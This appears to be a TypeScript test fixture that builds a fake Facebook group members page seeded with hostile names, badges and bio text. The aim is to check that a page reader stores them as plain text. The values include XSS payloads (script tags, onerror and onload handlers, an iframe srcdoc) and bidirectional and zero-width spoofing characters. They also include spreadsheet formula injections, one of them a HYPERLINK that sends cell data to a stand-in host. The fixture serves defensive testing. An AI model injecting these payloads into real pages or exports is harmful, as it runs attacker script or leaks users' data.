/**
 * A hostile members page: real Facebook members-page markup (the first row of
 * `test/fixtures/facebook/www_comet_group_members_2024-08.html`, stamped once per person), with names, a badge
 * and the section heading that contain HTML, scripts, direction marks, zero-width characters, emoji and a
 * 10,000-character string. Facebook would send such names as text, so the page shows them as text; any reader
 * that reads the real capture reads this page.
 *
 * Built with linkedom (setting textContent and attributes, so the markup is escaped as a browser would).
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { parseHTML } from 'linkedom';
import { ROOT } from './builds';

export const HOSTILE_GROUP = '987654321012345';
export const HOSTILE_URL = `https://www.facebook.com/groups/${HOSTILE_GROUP}/members`;
const SOURCE = path.join(ROOT, 'test/fixtures/facebook/www_comet_group_members_2024-08.html');
const SOURCE_GROUP = '345769890781387';
const TEMPLATE_NAME = 'George King';
const TEMPLATE_BADGE = 'Top contributor';

/** A string that runs `code` if it ever becomes HTML, in any of the usual ways. */
const payload = (code: string) => `<img src=x onerror="${code}"><script>${code}</script>`;
export const PWNED = 'window.__pwned=1;alert(1)';

export interface HostileMember {
  memberId: string;
  name: string;
}

export const HOSTILE_MEMBERS: readonly HostileMember[] = [
  { memberId: '100000000000001', name: `${payload(PWNED)}Ann` },
  { memberId: '100000000000002', name: `Bob <script>${PWNED}</script> & "quotes" 'too' </a></li>` },
  // Right-to-left override and isolate, then a right-to-left mark and left-to-right mark.
  { memberId: '100000000000003', name: '\u202eCarol evil.exe\u202c \u2067שלום\u2069 \u200f\u200eDone' },
  // Zero-width space, joiner, non-joiner, word joiner, byte-order mark.
  { memberId: '100000000000004', name: 'Da\u200bv\u200di\u200cd\u2060 Zero\ufeffWidth' },
  { memberId: '100000000000005', name: 'Émilie 👩‍👩‍👧 🐕‍🦺 🏳️‍🌈 ❤️ 🇫🇷' },
  // Exactly 10,000 characters, the longest name the schema keeps, and HTML in it.
  { memberId: '100000000000006', name: `<b>${'Ω'.repeat(10_000 - 7)}</b>` },
  {
    memberId: '100000000000007',
    name: '<!-- --><svg onload=alert(1)><iframe srcdoc="<script>alert(1)</script>">',
  },
  // Spreadsheet formulas: a CSV cell starting with = + - @ must not run (storage/export.ts `FORMULA_START`).
  { memberId: '100000000000008', name: '=HYPERLINK("https://evil.invalid/?"&A1,"Click")' },
  { memberId: '100000000000009', name: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { memberId: '100000000000010', name: '+1+1 Plus' },
  { memberId: '100000000000011', name: '-1+1 Minus' },
];
/** Names a spreadsheet would run as a formula. */
export const FORMULA_NAME = /^[=+\-@]/;

/** Every kind of hostile text in one string (no `{`: templates read braces as placeholders), `length` long. */
export function hostileText(length: number): string {
  const head = `${payload(PWNED)} \u202eevil.exe\u202c Da\u200bv\u200did 🐕‍🦺 🏳️‍🌈 "quotes" & 'too' `;
  return `${head}${'Ω'.repeat(Math.max(0, length - head.length - 3))}end`;
}
export const HOSTILE_BADGE = `<img src=x onerror="${PWNED}">Top`;
export const HOSTILE_SECTION = `<script>${PWNED}</script>Members`;
/** Post-like free text on the page (bio lines); never stored, but must not break reading either. */
export const HOSTILE_TEXT = `${payload(PWNED)} ${'\u202e'.repeat(3)} ${'x'.repeat(10_000)}`;

/**
 * What a correct reader may legitimately do to a name: drop what draws nothing (format characters such as
 * zero-width marks and direction overrides, which the reader removes from every name it stores, and Facebook's
 * U+034F watermark), collapse whitespace. Tags, quotes and scripts must stay exactly as shown.
 */
export const comparableText = (text: string) =>
  text
    .replace(/[\p{Cf}\u034f]/gu, '')
    .replace(/\s+/g, ' ')
    .trim();

/** The hostile members page as HTML text. */
export function hostileMembersPage(members: readonly HostileMember[] = HOSTILE_MEMBERS): string {
  const { document } = parseHTML(readFileSync(SOURCE, 'utf8'));
  const template = document.querySelector('[role="listitem"]');
  if (!template) throw new Error('the capture has no member row');
  const templateId = /\/user\/(\d+)\//.exec(
    template.querySelector('a[href*="/user/"]')?.getAttribute('href') ?? '',
  )?.[1];
  if (!templateId) throw new Error('the first member row has no user link');

  const rows = members.map((member, index) => {
    const row = template.cloneNode(true) as Element;
    for (const link of Array.from(row.querySelectorAll('a[href]'))) {
      const href = link.getAttribute('href')!;
      link.setAttribute(
        'href',
        href.replace(SOURCE_GROUP, HOSTILE_GROUP).replace(templateId, member.memberId),
      );
      if (link.getAttribute('aria-label') === TEMPLATE_NAME) link.setAttribute('aria-label', member.name);
    }
    for (const element of Array.from(row.querySelectorAll('*'))) {
      if (element.children.length > 0) continue;
      if (element.textContent === TEMPLATE_NAME) element.textContent = member.name;
      else if (element.textContent === TEMPLATE_BADGE)
        element.textContent = index === 0 ? HOSTILE_BADGE : TEMPLATE_BADGE;
      else if (element.textContent && element.closest('span[dir="auto"]') && !element.closest('a')) {
        // Other lines of the row (bio, "works at"): free text written by the member.
        if (/ at | · |United Kingdom/.test(element.textContent)) element.textContent = HOSTILE_TEXT;
      }
    }
    return row;
  });
  // A small page of its own: the capture's head (scripts, styles) and other content are dropped.
  const title = document.createElement('title');
  title.textContent = 'Members | Facebook';
  const charset = document.createElement('meta');
  charset.setAttribute('charset', 'utf-8');
  document.head.replaceChildren(charset, title);
  const heading = document.createElement('h2');
  heading.textContent = HOSTILE_SECTION;
  const list = document.createElement('div');
  list.setAttribute('role', 'list');
  list.append(...rows);
  const main = document.createElement('div');
  main.setAttribute('role', 'main');
  main.append(heading, list);
  document.body.replaceChildren(main);
  // linkedom serialises like a browser: text and attribute values escaped, so the hostile strings stay text.
  return `<!DOCTYPE html>${document.documentElement.toString()}`;
}
